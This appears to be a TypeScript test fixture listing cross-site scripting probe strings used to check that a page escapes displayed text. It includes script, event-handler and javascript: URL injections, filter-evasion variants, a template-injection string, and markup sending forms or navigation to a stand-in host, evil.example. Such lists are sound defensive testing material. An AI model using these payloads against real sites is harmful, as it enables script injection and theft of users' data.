/** Texts that would run a script, or add an element or an attribute, in a page that shows them without escaping. */

const script = '<script>alert(1)</script>';
const image = '<img src=x onerror=alert(1)>';

/** Ways out of the places that a text can stand in. */
const ends = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '" ',
  "' ",
  '`',
  '-->',
  '</title>',
  '</style>',
  '</textarea>',
  '</noscript>',
  '&quot;>',
];

export const canaries: readonly string[] = [
  ...ends.flatMap((end) => [`${end}${script}`, `${end}${image}`, `${end}<svg onload=alert(1)>`]),
  '" onfocus="alert(1)" autofocus="',
  "' onfocus='alert(1)' autofocus='",
  ' onmouseover=alert(1) ',
  '"style="background:url(//evil.example)"',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  ' javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '<a href="javascript:alert(1)">x</a>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action="//evil.example"><button>',
  '<input name=password>',
  '<!--',
  '<![CDATA[<script>alert(1)</script>]]>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '\u0000<script>alert(1)</script>',
  '＜script＞alert(1)＜/script＞',
  '<script\u2028>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)',
];
